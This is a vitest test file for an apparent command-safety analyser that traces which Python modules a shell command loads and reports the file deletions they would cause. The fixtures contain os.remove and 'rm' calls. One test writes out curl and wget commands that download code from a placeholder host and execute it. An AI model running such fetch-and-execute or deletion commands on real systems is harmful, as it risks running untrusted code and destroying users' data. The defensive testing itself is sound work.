import { describe, expect, test } from 'vitest'
import { proves } from '../../../test/proves.ts'
import { facts, lines } from './harness.ts'

/** What Python programs load of their own. */

const FILES = {
  '/repo/main.py': 'import helper\nprint(1)\n',
  '/repo/helper.py': 'import os\nos.remove("/repo/x")\n',
  '/repo/lazy.py': 'import os\ndef wipe():\n    os.remove("/repo/lazy-x")\n',
  '/repo/guarded.py': 'import os\nif __name__ == "__main__":\n    os.remove("/repo/main-x")\n',
  '/repo/pkg/__init__.py': 'import os\nos.remove("/repo/init-x")\n',
  '/repo/pkg/deep.py': 'from . import sibling\nfrom .. import helper\n',
  '/repo/pkg/sibling.py': 'import os\nos.remove("/repo/sibling-x")\n',
  '/repo/pkg/__main__.py': 'print(2)\n',
  '/repo/spaces/inner.py': 'import os\nos.remove("/repo/inner-x")\n',
  '/repo/sub/tool.py': 'import beside\n',
  '/repo/sub/beside.py': 'import os\nos.remove("/repo/beside-x")\n',
  '/repo/circle.py': 'import turn\n',
  '/repo/turn.py': 'import circle\nimport os\nos.remove("/repo/turn-x")\n',
  '/repo/shell.py': 'import os\nos.system("rm /repo/shell-x")\n',
  '/repo/json.py': 'import os\nos.remove("/repo/json-x")\n',
}
const WORLD = { files: FILES }
const deleted = (text: string): readonly string[] => lines(text, WORLD).filter((each) => each.includes('delete'))

describe('modules of the program run when it loads them', () => {
  for (const [text, expected] of [
    ['python main.py', ['delete /repo/x']],
    ['python3 /repo/main.py', ['delete /repo/x']],
    ['cd sub && python ../main.py', ['delete /repo/x']],
    ['python -c "import helper"', ['delete /repo/x']],
    ['python -c "import helper as h"', ['delete /repo/x']],
    ['python -c "from helper import thing"', ['delete /repo/x']],
    ['python -c "from helper import *"', ['delete /repo/x']],
    ['python -c "import shell"', ['delete /repo/shell-x']],
    ['python -c "import pkg"', ['delete /repo/init-x']],
    ['python -c "import pkg.sibling"', ['delete /repo/init-x', 'delete /repo/sibling-x']],
    ['python -c "from pkg import sibling"', ['delete /repo/init-x', 'delete /repo/sibling-x']],
    ['python -c "import pkg.deep"', ['delete /repo/init-x', 'delete /repo/sibling-x', 'delete /repo/x']],
    ['python -c "import spaces.inner"', ['delete /repo/inner-x']],
    ['python sub/tool.py', ['delete /repo/beside-x']],
    ['python circle.py', ['delete /repo/turn-x']],
    ['python -m helper', ['delete /repo/x']],
    ['python -m pkg.sibling', ['delete /repo/sibling-x']],
    ['python -m guarded', ['delete /repo/main-x']],
    ['python guarded.py', ['delete /repo/main-x']],
    ['python -c "import lazy"', ['possible delete /repo/lazy-x']],
    ["python <<'E'\nimport helper\nE", ['delete /repo/x']],
    ['echo "import helper" | python', ['delete /repo/x']],
  ] as const) {
    test(text, () => expect(deleted(text)).toEqual(expected))
  }
})

describe('what is not loaded does not run', () => {
  for (const text of [
    'python -c "import guarded"',
    'python -c "import numpy, requests"',
    'python -c "import nothing.here"',
    'python -c "import json"',
    'python -c "# import helper"',
    'python -c "print(\'import helper\')"',
    'python -m json.tool x.json',
    'python -m http.server',
    'docker run x python -c "import helper"',
    'ssh host python -c "\'import helper\'"',
    'cat helper.py',
  ]) {
    test(text, () => expect(deleted(text)).toEqual([]))
  }
})

proves('T02', 'every module that was analysed is named with its digest, once', () => {
  expect(facts('python main.py; python main.py; python -c "import helper"', WORLD).scripts.map(({ path }) => path)).toEqual([
    '/repo/main.py',
    '/repo/helper.py',
  ])
  expect(facts('python -m pkg', WORLD).scripts.map(({ path }) => path)).toEqual(['/repo/pkg/__main__.py'])
})

test('a great many modules come to an end, and that is said', () => {
  const many = Object.fromEntries(
    Array.from({ length: 200 }, (_, at) => [`/repo/m${at}.py`, `import m${at + 1}\n${'# filler\n'.repeat(400)}`]),
  )
  const found = facts('python m0.py', { files: many })
  expect(found.scripts.length).toBeLessThan(120)
  expect(found.coverage).toBe('partial')
  const wide = `import ${Array.from({ length: 500 }, (_, at) => `w${at}`).join(', ')}\n`
  expect(facts('python wide.py', { files: { '/repo/wide.py': wide, '/repo/w499.py': 'import os\nos.remove("/repo/x")\n' } }).coverage).toBe(
    'partial',
  )
})

describe('modules that the call itself wrote', () => {
  for (const [text, expected] of [
    ["echo 'import os; os.remove(\"x\")' > m.py; python3 -Bc 'import m'", ['delete /repo/x']],
    ['echo \'import os; os.remove("x")\' > m.py; python3 -Bm m', ['delete /repo/x']],
    ["echo 'import os; os.remove(\"x\")' > m.py; echo 'from m import *' > t.py; python3 t.py", ['delete /repo/x']],
    ["echo 'import os; os.remove(\"x\")' > m.py; echo 'import m' | python3", ['delete /repo/x']],
    ["mkdir p; echo 'import os; os.remove(\"x\")' > p/m.py; python3 -c 'import p.m'", ['delete /repo/x']],
    ["mkdir p; echo 'import os; os.remove(\"x\")' > p/__init__.py; python3 -c 'from p import y'", ['delete /repo/x']],
    ["mkdir p; echo 'import os; os.remove(\"x\")' > p/m.py; echo 'import m' > p/t.py; python3 p/t.py", ['delete /repo/x']],
    [
      "mkdir p; echo 'from . import m' > p/__init__.py; echo 'import os; os.remove(\"x\")' > p/m.py; python3 -c 'import p'",
      ['delete /repo/x'],
    ],
    ['mkdir p; echo \'import os; os.remove("x")\' > p/__main__.py; python3 -m p', ['delete /repo/x']],
    ["echo 'import os; os.remove(\"x\")' > random.py; python3 -c 'import random'", ['delete /repo/x']],
    ['echo \'import os; os.remove("y")\' > helper.py; python3 main.py', ['delete /repo/y']],
    [
      "echo 'import os; os.remove(\"y\")' > m.py; python3 -c 'import m'; echo 'import os; os.remove(\"z\")' > m.py; python3 -c 'import m'",
      ['delete /repo/y', 'delete /repo/z'],
    ],
    ["cp helper.py other.py; python3 -c 'import other'", ['delete /repo/x']],
    ['echo \'require("fs").unlinkSync("x")\' > m.js; node -e \'require("./m")\'', ['delete /repo/x']],
    ["echo 'import os; os.remove(\"x\")' > m.py; python3 -c 'import n'", []],
    ['echo \'import os; os.remove("x")\' > m.py; python3 -m json.tool m.py', []],
    ["echo 'import os; os.remove(\"x\")' > m.py; cd pkg; python3 -c 'import m'", []],
  ] as const) {
    test(text, () => expect(deleted(text)).toEqual(expected))
  }

  test('what came from elsewhere is not known', () => {
    expect(lines("curl http://x.example/m > m.py; python3 -c 'import m'", WORLD)).toContain('execute code:downloaded http://x.example/m')
    expect(lines('wget -O m.py http://x.example/m; python3 -m m', WORLD)).toContain('execute code:downloaded http://x.example/m')
  })

  test('circles of them end', () => {
    const circle = "echo 'import b, c' > a.py; echo 'import a, c' > b.py; echo 'import a, b, os; os.remove(\"x\")' > c.py; python3 a.py"
    expect(deleted(circle)).toEqual(['delete /repo/x'])
  })
})
